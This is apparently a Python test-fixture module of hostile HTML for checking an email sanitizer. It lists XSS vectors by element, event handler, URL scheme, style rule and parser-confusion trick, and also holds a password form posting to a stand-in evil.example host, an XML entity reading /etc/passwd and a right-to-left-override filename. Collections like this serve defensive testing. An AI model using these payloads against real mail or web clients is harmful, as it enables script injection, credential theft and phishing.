"""What strangers put into the HTML of a mail so that the page that shows it runs, fetches, hides or sends something: by element, handler,
address, style, by confusing whoever cleans it (other parsers, encodings, unclosed and nested things), and by what mail programs do."""

from __future__ import annotations

_EVIL = "alert(document.domain)"
_OUT = "//evil.example/x"
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onbeforetoggle", "onwheel", "ONLOAD", "oNcLiCk")
_CARRIERS = ("<img src=x {0}={1}>", "<p {0}={1}>x</p>", "<a href='https://a.example' {0}={1}>x</a>", "<td/{0}={1}>x")
_SCHEMES = (
    "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "\x01javascript:{0}", "java\tscript:{0}", "java\nscript:{0}", "java&#x0A;script:{0}", "&#106;avascript:{0}", "&#x6A&#x61vascript:{0}",
    "javascript&colon;{0}", "vbscript:msgbox(1)", "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:https://a.example/1", "file:///etc/passwd", "view-source:javascript:{0}",
    "feed:javascript:{0}", "jar:https://a.example/!x", "ftp://a.example/", "cid:part1", "//evil.example", "/core/user/1/delete", "?logout=1", "tel:1", "mhtml:https://a.example",
)
_LINKS = tuple(f'<a href="{one.format(_EVIL)}">x</a>' for one in _SCHEMES)
_ELEMENTS = (
    f"<script>{_EVIL}</script>", f"<script src={_OUT}></script>", f"<SCRIPT/x>{_EVIL}</SCRIPT>", f"<scr<script>ipt>{_EVIL}</scr</script>ipt>", f"<script\x00>{_EVIL}</script>", f"<script>{_EVIL}",
    f"<svg onload={_EVIL}>", f"<svg><script>{_EVIL}</script></svg>", f"<svg><a xlink:href='javascript:{_EVIL}'><text>x</text></a></svg>", f"<svg><animate onbegin={_EVIL} attributeName=x></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_EVIL}>'></svg>", f"<svg><foreignObject><body onload={_EVIL}></foreignObject></svg>", f"<svg><style><img src=x onerror={_EVIL}></style></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_EVIL}>", f"<math href='javascript:{_EVIL}'>x</math>", f"<math><annotation-xml encoding='text/html'><img src=x onerror={_EVIL}></annotation-xml></math>",
    f"<iframe src={_OUT}></iframe>", f"<iframe srcdoc='<script>{_EVIL}</script>'></iframe>", f"<frameset onload={_EVIL}><frame src={_OUT}></frameset>", f"<object data={_OUT}></object>", f"<embed src={_OUT}>",
    f"<applet code=x archive={_OUT}></applet>", f"<portal src={_OUT}></portal>", "<base href='https://evil.example/'>", f"<base href='javascript:{_EVIL}//'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Set-Cookie content='sid=1'>", f"<link rel=stylesheet href={_OUT}>", f"<link rel=prefetch href={_OUT}>", f"<link rel=import href={_OUT}>", f"<form action={_OUT}><input name=password><button>Sign in</button></form>",
    f"<input onfocus={_EVIL} autofocus>", f"<button formaction='javascript:{_EVIL}'>x</button>", "<button form=form formaction='/core/user/1/delete'>x</button>", f"<select onfocus={_EVIL} autofocus><option>x</select>",
    f"<textarea onfocus={_EVIL} autofocus></textarea>", f"<keygen onfocus={_EVIL} autofocus>", f"<details open ontoggle={_EVIL}>x</details>", f"<dialog open onclose={_EVIL}>x</dialog>", f"<marquee onstart={_EVIL}>x</marquee>",
    f"<video poster={_OUT}><source src=x onerror={_EVIL}></video>", f"<audio src={_OUT} autoplay>", f"<picture><source srcset={_OUT}><img src={_OUT}></picture>", f"<img srcset='{_OUT} 1x'>", f"<img src='https:{_OUT}' width=1 height=1>",
    f"<img lowsrc={_OUT} dynsrc={_OUT}>", f"<image src=x onerror={_EVIL}>", f"<isindex type=image src=x onerror={_EVIL}>", f"<bgsound src={_OUT}>", f"<layer src={_OUT}></layer>", f"<xml src={_OUT}></xml>", f"<track src={_OUT} onerror={_EVIL}>",
    f"<body onload={_EVIL} background={_OUT}>", f"<table background={_OUT}><tr><td background={_OUT}>x</td></tr></table>", f"<slot name=x onslotchange={_EVIL}></slot>", "<custom-element onclick=x>x</custom-element>",
    f"<template><script>{_EVIL}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={_EVIL}>'></noscript>", f"<noembed><img title='</noembed><img src onerror={_EVIL}>'></noembed>", f"<xmp><img src=x onerror={_EVIL}></xmp>",
    f"<plaintext><img src=x onerror={_EVIL}>", f"<listing>&lt;img src onerror={_EVIL}&gt;</listing>", f"<title><img src=x onerror={_EVIL}></title>", f"<iframe><img src=x onerror={_EVIL}></iframe>",
)
_STYLES = (
    f"<style>@import '{_OUT}';</style>", f"<style>*{{background:url({_OUT})}}</style>", "<style>body{display:none}</style>", f"<p style='background:url({_OUT})'>x</p>", "<p style='position:fixed;inset:0;background:#fff'>Sign in again</p>",
    f"<p style='width:expression({_EVIL})'>x</p>", f"<p style='behavior:url({_OUT})'>x</p>", f"<p style='-moz-binding:url({_OUT}#x)'>x</p>", "<p style='color:red;}</style><script>alert(1)</script>'>x</p>", "<p class='btn btn-primary tg-head'>x</p>",
    "<p id=form>x</p>", "<a id=csrf_token name=csrf_token href='https://a.example'>x</a>", "<p data-confirm=x data-preview='//evil.example'>x</p>", "<p hidden aria-hidden=true contenteditable accesskey=x tabindex=1>x</p>", "<font face=x color=red size=7>x</font>",
    "<p dir=rtl lang=x is=x slot=x part=x popover>x</p>",
)
_CONFUSION = (
    f"<p title=\"<img src=x onerror={_EVIL}>\">x</p>", f"<a title='\"><img src=x onerror={_EVIL}>' href='https://a.example'>x</a>", f"<!--><img src=x onerror={_EVIL}>-->", f"<!-- --!><img src=x onerror={_EVIL}>-->",
    f"<![CDATA[<img src=x onerror={_EVIL}>]]>", f"<?xml version='1.0'?><?php {_EVIL} ?><img src=x onerror={_EVIL}>", f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;<img src=x onerror={_EVIL}>", f"<!--[if mso]><script>{_EVIL}</script><![endif]-->",
    f"<img src=x onerror\x0b={_EVIL}>", f"<img/src=x/onerror={_EVIL}//", f"<img src=x onerror={_EVIL}", f"<img src='x'onerror={_EVIL}>", f"<<img src=x onerror={_EVIL}>", f"< img src=x onerror={_EVIL}>", f"<\x00img src=x onerror={_EVIL}>",
    f"<a href='https://a.example/\"onclick={_EVIL} x'>x</a>", f"<a href=`javascript:{_EVIL}`>x</a>", f"<a href=\"https://a.example\" href=\"javascript:{_EVIL}\">x</a>", f"<div><a href=https://a.example><table><a href='javascript:{_EVIL}'>x",
    f"&lt;script&gt;{_EVIL}&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u2028<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    f"</div></div></main></body></html><script>{_EVIL}</script>", "</td></tr></table></div><form action=//evil.example>", f"<table><td><table></td><script>{_EVIL}</script>", f"<select><template><img src=x onerror={_EVIL}></template></select>",
    "<b>" * 300 + f"<img src=x onerror={_EVIL}>", "<ul><li>" * 200 + f"<script>{_EVIL}</script>", f"<a href='https://a.example/?{'x' * 3_000}' onclick={_EVIL}>x</a>", f"<p {'x' * 2_000}={_EVIL}>x</p>",
)
HTML: tuple[str, ...] = tuple(dict.fromkeys([
    *_ELEMENTS, *_LINKS, *_STYLES, *_CONFUSION, *(carrier.format(handler, _EVIL) for handler in _HANDLERS for carrier in _CARRIERS[: 1 if handler.islower() and handler != "onerror" else 4]),
]))
# What stands in heads and names of files, where a page shows it.
WORDS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover=alert(1) x='", "</title><script>alert(1)</script>", "javascript:alert(1)", "<svg/onload=alert(1)>", "{{7*7}}", "\u202e<b>txt.exe", "&#60;script&#62;alert(1)",
    "</textarea><img src=x onerror=alert(1)>", "`${alert(1)}`", "<a href=javascript:alert(1)>x</a>",
)
